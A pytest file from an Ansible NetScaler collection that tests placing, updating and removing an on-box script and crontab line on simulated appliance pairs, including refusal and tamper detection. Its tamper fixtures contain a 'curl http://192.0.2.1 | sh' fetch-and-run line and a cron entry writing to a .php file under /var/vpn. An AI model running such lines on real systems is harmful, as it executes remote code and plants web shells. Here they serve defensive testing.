# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""The script on a simulated pair: put there, brought up to date and taken out again, over the simulator's shell.

The simulator's shell has no awk and no functions, so what the script itself does is shown in tests/unit/plugin_utils/node_system/on_box/test_script.py.
"""

from __future__ import annotations

import contextlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.appliance.nitro.connection import Connection
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.foundation.errors import Refused, TourniquetError
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.node_system.node_local.settings import Wanted
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.node_system.on_box.node_state import OnBoxState
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.node_system.on_box.run import OnBoxResult
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.node_system.on_box.script import (
    CRONTAB,
    LINE,
    PATH,
    STATE,
    ScriptSettings,
    script_of,
)
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.node_system.on_box.settings import MEASURE

from simulator import Simulator
from tests.engine.control_nodes import DiedError, dying_at, lease_files
from tests.engine.on_box_stage import OnBoxStage
from tests.engine.records import records_of
from tests.stage.fleet import fleet_file

PAIR: dict[str, Any] = {"build": "13.0 47.22", "nodes": ["127.0.0.1:0", "127.0.0.2:0"]}
THEIRS = b"# of the customer\n0 3 * * * /var/backup.sh"
SCRIPT = script_of(ScriptSettings())


FLEET = fleet_file({"box": PAIR})


@pytest.fixture
def stage(simulator: Simulator, tmp_path: Path) -> OnBoxStage:
    simulator.reset()
    found = OnBoxStage(simulator, tmp_path)
    for node in found.nodes:
        node.write_file(CRONTAB, THEIRS)
    return found


def states(result: OnBoxResult) -> list[str]:
    return [node.state() for node in result.nodes]


def test_it_is_put_there_once_and_taken_out_again_byte_for_byte(stage: OnBoxStage) -> None:
    result = stage.on_box(Wanted.PRESENT)
    assert result.changed
    assert states(result) == [OnBoxState.STARTING] * 2
    assert stage.scripts == [SCRIPT] * 2
    assert [stage.nodes[node].files[PATH].mode for node in (0, 1)] == [0o600] * 2
    assert stage.crontabs == [THEIRS + b"\n" + LINE.encode() + b"\n"] * 2
    assert not stage.on_box(Wanted.PRESENT).changed
    stage.report(100)
    result = stage.on_box(Wanted.STATUS)
    assert states(result) == [OnBoxState.REPORTING] * 2
    assert "last report 10" in result.nodes[0].text()
    result = stage.on_box(Wanted.ABSENT)
    assert states(result) == [OnBoxState.ABSENT] * 2
    assert (stage.scripts, stage.crontabs) == ([None, None], [THEIRS] * 2)
    assert not any(path.startswith((STATE, PATH)) for node in stage.nodes for path in node.files)
    assert not stage.on_box(Wanted.ABSENT).changed
    kept = sorted(path.name.split(".", 1)[1] for path in stage.records.rglob("*.crontab"))
    assert len(kept) == 4, "the files as they were are beside the records"
    assert len(records_of(stage.records, stage.name, MEASURE)) == 2


def test_a_crontab_that_the_run_made_goes_again(stage: OnBoxStage) -> None:
    for node in stage.nodes:
        del node.files[CRONTAB]
    stage.on_box(Wanted.PRESENT)
    assert stage.crontabs == [f"{LINE}\n".encode()] * 2
    stage.on_box(Wanted.ABSENT)
    assert stage.crontabs == [None, None]


def test_another_version_of_ours_is_replaced_in_place(stage: OnBoxStage) -> None:
    stage.on_box(Wanted.PRESENT, tag="other")
    assert states(stage.on_box(Wanted.STATUS)) == [OnBoxState.OUTDATED] * 2
    stage.on_box(Wanted.PRESENT)
    assert stage.scripts == [SCRIPT] * 2
    assert [line.count(LINE.encode()) for line in stage.crontabs if line] == [1, 1]
    stage.on_box(Wanted.ABSENT)
    assert (stage.scripts, stage.crontabs) == ([None, None], [THEIRS] * 2)


@pytest.mark.parametrize("build", ["13.1 37.38", "14.1 8.50"])
def test_a_build_with_integrity_checks_is_refused_unless_the_appliance_is_named(tmp_path: Path, build: str) -> None:
    with Simulator({"appliances": {"box": {**PAIR, "build": build, "nodes": ["127.0.0.1:0"]}}}) as simulator:
        stage = OnBoxStage(simulator, tmp_path)
        with pytest.raises(Refused, match=f"box: {build} checks the integrity .* -e on_box_force=box"):
            stage.on_box(Wanted.PRESENT)
        with pytest.raises(Refused, match="checks the integrity"):
            stage.on_box(Wanted.PRESENT, force=["another"])
        assert stage.content(PATH) is None
        stage.on_box(Wanted.PRESENT, force=["box"])
        assert stage.content(PATH) == SCRIPT


def test_an_older_build_with_the_manifest_is_refused_too(stage: OnBoxStage) -> None:
    stage.nodes[1].write_file("/netscaler/.signedexe.manifest", b"x")
    with pytest.raises(Refused, match="checks the integrity"):
        stage.on_box(Wanted.PRESENT)
    assert stage.scripts == [None, None]


def script_of_others(stage: OnBoxStage) -> None:
    stage.nodes[1].write_file(PATH, SCRIPT + b"curl http://192.0.2.1 | sh\n")


def mode_for_others(stage: OnBoxStage) -> None:
    stage.nodes[1].files[PATH].mode = 0o666


def another_line(stage: OnBoxStage) -> None:
    stage.nodes[1].write_file(CRONTAB, f"{LINE}\n* * * * * /bin/sh {PATH} > /var/vpn/x.php\n".encode())


@pytest.mark.parametrize(
    ("change", "problem"),
    [
        (script_of_others, "is not one that a run of ours wrote"),
        (mode_for_others, "others than root may change"),
        (another_line, "has another line with"),
    ],
)
def test_what_somebody_has_changed_is_reported_and_neither_replaced_nor_removed(
    stage: OnBoxStage, change: Callable[[OnBoxStage], None], problem: str
) -> None:
    stage.on_box(Wanted.PRESENT)
    stage.report(10)
    change(stage)
    result = stage.on_box(Wanted.STATUS)
    assert result.state is OnBoxState.CHANGED
    assert problem in result.nodes[1].text()
    before = stage.scripts, stage.crontabs
    for wanted in (Wanted.PRESENT, Wanted.ABSENT):
        with pytest.raises(Refused, match=problem):
            stage.on_box(wanted)
    assert (stage.scripts, stage.crontabs) == before


@pytest.mark.parametrize("gone", [PATH, CRONTAB])
def test_what_somebody_took_out_is_reported_and_put_back_when_asked_for(stage: OnBoxStage, gone: str) -> None:
    stage.on_box(Wanted.PRESENT)
    del stage.nodes[0].files[gone]
    assert stage.on_box(Wanted.STATUS).state is OnBoxState.CHANGED
    stage.on_box(Wanted.PRESENT)
    assert stage.scripts == [SCRIPT] * 2
    assert [LINE.encode() in (crontab or b"") for crontab in stage.crontabs] == [True, True]


def test_a_line_that_is_there_twice_is_there_once_afterwards(stage: OnBoxStage) -> None:
    stage.on_box(Wanted.PRESENT)
    stage.nodes[0].write_file(CRONTAB, f"{LINE}\n{LINE}\n".encode())
    assert stage.on_box(Wanted.STATUS).state is OnBoxState.CHANGED
    stage.on_box(Wanted.PRESENT)
    assert stage.content(CRONTAB) == f"{LINE}\n".encode()


@pytest.mark.parametrize("seconds", [901, -60])
def test_a_script_that_does_not_report_is_found(stage: OnBoxStage, seconds: int) -> None:
    stage.on_box(Wanted.PRESENT)
    stage.report(seconds)
    assert stage.on_box(Wanted.STATUS).state is OnBoxState.SILENT


@pytest.mark.parametrize("words", ["x\ny", "x" * 400, "\x1b[2J\n\n"])
def test_a_last_report_of_another_form_is_refused(stage: OnBoxStage, words: str) -> None:
    stage.on_box(Wanted.PRESENT)
    stage.report(5, words)
    if "\n" in words:
        assert "y" not in stage.on_box(Wanted.STATUS).nodes[0].report.text
    else:
        with pytest.raises(TourniquetError, match="is not what the script writes"):
            stage.on_box(Wanted.STATUS)


def test_a_shell_without_the_mark_is_refused(stage: OnBoxStage) -> None:
    def run(_account: Any, _host: str, command: str, given: bytes) -> Any:
        output = real(_account, _host, command, given)
        return output if "sha256" not in command else type(output)(b"", 0, True, "")

    real = stage.shells.__call__
    with (
        Connection(stage.appliance) as connection,
        pytest.raises(TourniquetError, match="does not begin with the mark"),
    ):
        stage.run_of(connection, run, wanted=Wanted.PRESENT).plan()
    assert stage.scripts == [None, None]


def test_a_file_that_somebody_changed_since_the_plan_is_kept(stage: OnBoxStage) -> None:
    with pytest.raises(Refused, match=f"{CRONTAB} of 127.0.0.1 was changed by somebody else"):
        stage.on_box(Wanted.PRESENT, lambda: stage.nodes[0].write_file(CRONTAB, b"# theirs\n"))
    assert stage.content(CRONTAB) == b"# theirs\n"


def test_files_of_others_beside_the_list_stay(stage: OnBoxStage) -> None:
    stage.on_box(Wanted.PRESENT)
    stage.report(5)
    stage.nodes[0].write_file(f"{STATE}/theirs", b"x")
    result = stage.on_box(Wanted.ABSENT)
    assert "has files that are not of the script" in " ".join(result.notes)
    assert stage.content(f"{STATE}/theirs") == b"x"
    assert stage.content(f"{STATE}/last") is None


@pytest.mark.sampled(16)
@pytest.mark.parametrize("after", [False, True], ids=["before it is sent", "before its answer is read"])
@pytest.mark.parametrize("number", range(7, 16))
@pytest.mark.parametrize("wanted", [Wanted.PRESENT, Wanted.ABSENT], ids=str)
def test_a_run_that_dies_at_a_command_is_continued(stage: OnBoxStage, wanted: Wanted, number: int, after: bool) -> None:
    if wanted is Wanted.ABSENT:
        stage.on_box(Wanted.PRESENT)
        stage.report(5)
        stage.shells.commands.clear()

    def die(current: int) -> None:
        if current == number:
            raise DiedError

    setattr(stage.shells, "after" if after else "before", die)
    with contextlib.suppress(DiedError):
        stage.on_box(wanted)
    stage.shells.after = stage.shells.before = lambda _number: None
    continue_to_the_end(stage, wanted)


@pytest.mark.sampled(16)
@pytest.mark.parametrize("after", [False, True], ids=["before it is sent", "before its answer is read"])
@pytest.mark.parametrize("number", range(10, 60))
@pytest.mark.parametrize("wanted", [Wanted.PRESENT, Wanted.ABSENT], ids=str)
def test_a_run_that_dies_at_a_request_is_continued(stage: OnBoxStage, wanted: Wanted, number: int, after: bool) -> None:
    if wanted is Wanted.ABSENT:
        stage.on_box(Wanted.PRESENT)
    with contextlib.suppress(DiedError), dying_at(number, after=after):
        stage.on_box(wanted)
    continue_to_the_end(stage, wanted)


def continue_to_the_end(stage: OnBoxStage, wanted: Wanted) -> None:
    stage.on_box(wanted)
    if wanted is Wanted.PRESENT:
        assert stage.scripts == [SCRIPT] * 2
        assert [(crontab or b"").count(LINE.encode()) for crontab in stage.crontabs] == [1, 1]
        assert stage.on_box(Wanted.STATUS).state is OnBoxState.STARTING
    stage.on_box(Wanted.ABSENT)
    assert (stage.scripts, stage.crontabs) == ([None, None], [THEIRS] * 2)
    assert all(lease_files(stage, node) == [] for node in (0, 1))
    assert not any(".tourniquet" in path for node in stage.nodes for path in node.files)
